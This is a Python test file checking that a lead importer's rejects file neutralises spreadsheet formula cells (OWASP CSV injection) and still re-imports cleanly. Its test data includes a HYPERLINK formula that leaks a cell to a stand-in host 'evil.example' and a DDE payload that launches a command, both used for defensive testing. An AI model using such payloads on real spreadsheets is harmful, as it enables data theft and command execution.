"""`ccl import`: the rejects file is safe to open in a spreadsheet (OWASP CSV injection) and a
corrected one still imports as it is."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from pathlib import Path
from typing import Any, cast

import pytest
from rich.console import Console

from ccl.lead.v1 import lead_pb2
from ccl.lead.v1 import lead_service_pb2 as lead_pb
from ccl_client import CclClient, importer

# Cells a spreadsheet may evaluate, one per OWASP's leading characters, plus the same behind
# leading whitespace or quotes.
DANGEROUS = [
    "=1+1",
    "+13125550182",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    '"=1+1',
    " \t@x",
]
# Cells already quoted that way (by an earlier rejects file): read without the quote, written
# with it again, never quoted twice.
NEUTRALISED = ["'=1+1", "'+1"]
# Cells that stay as they are: nothing formula-like at their start.
SAFE = ["Maria", "O'Brien", "a=b", "1+1", "", "'quoted'", "x\t=1"]
SERVER_REASON = '=HYPERLINK("http://evil.example/?leak="&A1,"fix me")'


class RejectingLeads:
    """ImportLeads only: rejects every lead with `reason` and keeps what it received."""

    def __init__(self, reason: str) -> None:
        self.reason = reason
        self.received: list[lead_pb.ImportLeadsRequest] = []

    def ImportLeads(
        self, requests: Iterable[lead_pb.ImportLeadsRequest], timeout: float | None = None
    ) -> lead_pb.ImportLeadsResponse:
        response = lead_pb.ImportLeadsResponse()
        for request in requests:
            self.received.append(request)
            response.results.add(
                record_ref=request.record_ref,
                outcome=lead_pb2.LEAD_OUTCOME_REJECTED,
                reason=self.reason,
            )
        return response


class FakeClient:
    def __init__(self, reason: str) -> None:
        self.leads = RejectingLeads(reason)


def run(path: Path, client: FakeClient, **options: Any) -> importer.ImportSummary:
    console = Console(file=io.StringIO(), width=200)
    return importer.run_import(
        path, cast(CclClient, client), show_progress=False, console=console, **options
    )


def write_rows(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows(rows)
    return path


def read_rows(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def test_every_formula_like_cell_of_the_rejects_file_gets_a_quote(tmp_path: Path) -> None:
    cells = [*DANGEROUS, *NEUTRALISED, *SAFE]
    # A header cell with a leading tab is still the known column `email` (names are stripped).
    header = ["first_name", "\temail", "tcpa"]
    rows = [[cell, "a@example.com", "true"] for cell in cells]
    # Rejected before sending (tcpa is not a boolean): its reason is the importer's own.
    rows.append(["-1", "-", "maybe"])
    path = write_rows(tmp_path / "leads.csv", [header, *rows])
    client = FakeClient(SERVER_REASON)

    summary = run(path, client)

    assert summary.rejected == len(rows)
    assert summary.rejects_path is not None
    out_header, *out_rows = read_rows(summary.rejects_path)
    assert out_header == ["first_name", "'\temail", "tcpa", "row", "reason"]
    assert [r[0] for r in out_rows[: len(cells)]] == [
        *("'" + cell for cell in DANGEROUS),
        *NEUTRALISED,
        *SAFE,
    ]
    assert {r[4] for r in out_rows[: len(cells)]} == {"'" + SERVER_REASON}
    assert out_rows[-1] == [
        "'-1",
        "'-",
        "maybe",
        str(len(rows)),
        "tcpa: is not true/false, 1/0 or yes/no",
    ]


def test_jsonl_rejects_quote_a_formula_like_line(tmp_path: Path) -> None:
    path = tmp_path / "leads.jsonl"
    path.write_text('=cmd|" /C calc"!A0\n{"first_name": "Maria"}\n', encoding="utf-8")

    summary = run(path, FakeClient("-rejected"))

    assert summary.rejects_path is not None
    header, broken, rejected = read_rows(summary.rejects_path)
    assert header == ["line", "row", "reason"]
    assert broken[:2] == ["'" + '=cmd|" /C calc"!A0', "1"]
    assert broken[2].startswith("line is not valid JSON")
    assert rejected == ['{"first_name": "Maria"}', "2", "'-rejected"]


@pytest.mark.parametrize("cell", [*DANGEROUS, *NEUTRALISED, *SAFE])
def test_a_rejects_file_imports_its_original_values(tmp_path: Path, cell: str) -> None:
    header = ["\tfirst_name", "phone", "email", "tcpa"]
    path = write_rows(tmp_path / "leads.csv", [header, [cell, "+13125550182", "a@b.c", "true"]])
    client = FakeClient("-no")
    first = run(path, client)
    assert first.rejects_path is not None
    again = FakeClient("no")

    second = run(first.rejects_path, again, rejects_path=tmp_path / "again.csv")

    ((sent,), (resent,)) = (client.leads.received, again.leads.received)
    assert resent.lead == sent.lead
    assert resent.lead.phone == "+13125550182"
    assert resent.lead.first_name == (cell[1:] if cell in NEUTRALISED else cell).strip()
    # Quoted once, not once more per round.
    assert second.rejects_path is not None
    header, row = read_rows(first.rejects_path)
    assert read_rows(second.rejects_path) == [header, [*row[:4], "1", "no"]]
